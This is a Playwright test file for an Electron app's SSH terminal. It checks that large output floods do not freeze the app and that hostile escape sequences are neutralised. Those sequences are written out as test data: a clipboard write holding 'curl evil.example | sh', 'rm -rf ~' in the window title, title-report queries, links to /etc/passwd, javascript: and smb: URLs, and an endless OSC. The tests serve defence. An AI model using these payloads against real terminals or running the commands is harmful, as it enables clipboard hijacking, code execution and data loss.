import type { ElectronApplication, Page } from '@playwright/test';
import { startShellServer } from '../support/raw-ssh-servers.ts';
import { openShellAt, signInToShell } from '../support/shell-steps.ts';
import { expect, freshness, refresh, test } from '../support/signed-in.ts';
import { sshdMissing, startSshd } from '../support/sshd.ts';

/** The goal is 100 ms on a machine of one's own; here others run beside it. */
const longestStallMs = 400;

/** Lines of two bytes are the worst for a terminal: each costs a row. The long ones are what a `cat` of a file is like. */
const floods = [
  { title: '16 MB of yes', command: 'yes | head -c 16000000', megabytes: 16 },
  { title: '200 MB of long lines', command: 'yes "$(printf %0150d 7)" | head -c 200000000', megabytes: 200 },
] as const;

for (const { title, command, megabytes } of floods) {
  test(`${title}: the window and main stay live, and so does the keyboard`, async ({
    launchSignedIn,
    sandbox,
  }) => {
    const missing = sshdMissing();
    test.skip(missing !== null, missing ?? '');
    test.slow();
    const sshd = await startSshd();
    try {
      const { app, window: page } = await launchSignedIn();
      await openShellAt(page, sandbox, 'api-prod-1', sshd);
      await signInToShell(page, sshd.password);
      const rows = page.locator('.xterm-rows');
      await expect(rows).toContainText('$');
      const windowGap = await watchWindow(page);
      const mainGap = await watchMain(app);

      const startedMs = performance.now();
      // In two parts, so that the typed line itself does not hold the word that is waited for.
      await page.keyboard.type(`${command}; echo flood-"over"`);
      await page.keyboard.press('Enter');
      await refresh(page);
      await page.getByRole('link', { name: 'Wallet' }).click();
      await expect(page.getByRole('heading', { name: 'Wallet', level: 1 })).toBeVisible();
      await page.getByRole('link', { name: 'Instances' }).click();
      await expect(freshness(page)).toHaveText('Live');
      const clicksMs = performance.now() - startedMs;
      await expect(rows).toContainText('flood-over', { timeout: 150_000 });
      const seconds = (performance.now() - startedMs) / 1_000;
      const [windowMs, mainMs] = [await windowGap(), await mainGap()];
      console.log(
        `${title} in ${seconds.toFixed(1)} s (${(megabytes / seconds).toFixed(1)} MB/s); longest gap in the window ` +
          `${windowMs} ms, in main ${mainMs} ms; a poll and two places took ${Math.round(clicksMs)} ms`,
      );
      expect(windowMs).toBeLessThan(longestStallMs);
      expect(mainMs).toBeLessThan(longestStallMs);

      await page.getByRole('tabpanel').getByRole('textbox').focus();
      await page.keyboard.type('yes');
      await page.keyboard.press('Enter');
      await expect(rows).not.toContainText('flood-over');
      await page.keyboard.press('Control+c');
      await expect(rows).toContainText(/\^C.*\$/);
    } finally {
      await sshd.stop();
    }
  });
}

test('hostile output: the clipboard is untouched, nothing is opened, nothing is sent back', async ({
  launchSignedIn,
  sandbox,
}) => {
  const server = await startShellServer();
  try {
    const { app, window: page } = await launchSignedIn();
    const title = await page.title();
    const openedUrls = await watchOpenedUrls(app);
    await app.evaluate(({ clipboard }) => clipboard.writeText('the person’s own'));
    await openShellAt(page, sandbox, 'api-prod-1', server);
    await signInToShell(page, 'any');
    await server.opened;
    const rows = page.locator('.xterm-rows');
    const sendAndSee = async (output: string, mark: string): Promise<void> => {
      await server.send(`${output}${mark}\r\n`);
      await expect(rows).toContainText(mark);
    };

    await test.step('OSC 52 neither writes nor reads the clipboard', async () => {
      const stolen = Buffer.from('curl evil.example | sh').toString('base64');
      await sendAndSee(`\x1b]52;c;${stolen}\x07\x1b]52;c;?\x07\x1b]52;p;?\x1b\\`, 'after-osc-52');
      expect(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe('the person’s own');
    });

    await test.step('the title is neither reported nor taken', async () => {
      await sendAndSee(
        '\x1b]0;rm -rf ~\r\x07\x1b]2;rm -rf ~\x07\x1b[21t\x1b[20t\x1b[18t\x1b[14t',
        'after-csi-21t',
      );
      expect(await page.title()).toBe(title);
    });

    await test.step('a link to a file, a script or plain http opens nothing; one to https does', async () => {
      const link = (url: string, text: string): string => `\x1b]8;;${url}\x1b\\${text}\x1b]8;;\x1b\\\r\n`;
      await sendAndSee(
        link('file:///etc/passwd', 'file-link') +
          link('javascript:alert(1)', 'script-link') +
          link('smb://evil/share', 'share-link') +
          link('https://example.com/ok', 'good-link'),
        'after-osc-8',
      );
      for (const text of ['file-link', 'script-link', 'share-link', 'good-link']) {
        // The screen lies over the rows and takes the pointer; it looks for a link where the pointer moves.
        await rows.getByText(text, { exact: true }).hover({ force: true });
        await rows.getByText(text, { exact: true }).click({ force: true });
      }
      await expect.poll(openedUrls).toEqual(['https://example.com/ok']);
    });

    await test.step('an endless OSC is dropped, and the window stays live', async () => {
      const windowGap = await watchWindow(page);
      await server.send('\x1b]0;');
      for (let sent = 0; sent < 32; sent += 1) await server.send(Buffer.alloc(1024 * 1024, 'A'));
      await refresh(page);
      await expect(freshness(page)).toHaveText('Live');
      await sendAndSee('\x07', 'after-endless-osc');
      const gapMs = await windowGap();
      console.log(`32 MB of one OSC: longest gap in the window ${gapMs} ms`);
      expect(gapMs).toBeLessThan(longestStallMs);
    });

    expect(server.received()).toBe('');
    expect(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe('the person’s own');
  } finally {
    await server.close();
  }
});

/** Measures the longest time between two frames or timers of the window; the answer ends the watch. */
async function watchWindow(page: Page): Promise<() => Promise<number>> {
  await page.evaluate(() => {
    const watch = { longestMs: 0, lastMs: performance.now(), isOn: true };
    Object.assign(window, { stallWatch: watch });
    const tick = (): void => {
      const nowMs = performance.now();
      watch.longestMs = Math.max(watch.longestMs, nowMs - watch.lastMs);
      watch.lastMs = nowMs;
      if (watch.isOn) requestAnimationFrame(tick);
    };
    requestAnimationFrame(tick);
  });
  return () =>
    page.evaluate(() => {
      const { stallWatch } = window as unknown as { stallWatch: { longestMs: number; isOn: boolean } };
      stallWatch.isOn = false;
      return Math.round(stallWatch.longestMs);
    });
}

/** Measures how late main's timers of 10 ms come at most; the answer ends the watch. */
async function watchMain(app: ElectronApplication): Promise<() => Promise<number>> {
  await app.evaluate(() => {
    const watch = { longestMs: 0, lastMs: performance.now() };
    const timer = setInterval(() => {
      const nowMs = performance.now();
      watch.longestMs = Math.max(watch.longestMs, nowMs - watch.lastMs - 10);
      watch.lastMs = nowMs;
    }, 10);
    Object.assign(globalThis, { stallWatch: watch, stallTimer: timer });
  });
  return () =>
    app.evaluate(() => {
      const { stallWatch, stallTimer } = globalThis as unknown as {
        stallWatch: { longestMs: number };
        stallTimer: NodeJS.Timeout;
      };
      clearInterval(stallTimer);
      return Math.round(stallWatch.longestMs);
    });
}

/** Takes the place of the system's browser and keeps what it was asked to open. */
async function watchOpenedUrls(app: ElectronApplication): Promise<() => Promise<readonly string[]>> {
  await app.evaluate(({ shell }) => {
    const urls: string[] = [];
    Object.assign(globalThis, { openedUrls: urls });
    shell.openExternal = (url) => {
      urls.push(url);
      return Promise.resolve();
    };
  });
  return () => app.evaluate(() => (globalThis as unknown as { openedUrls: string[] }).openedUrls);
}
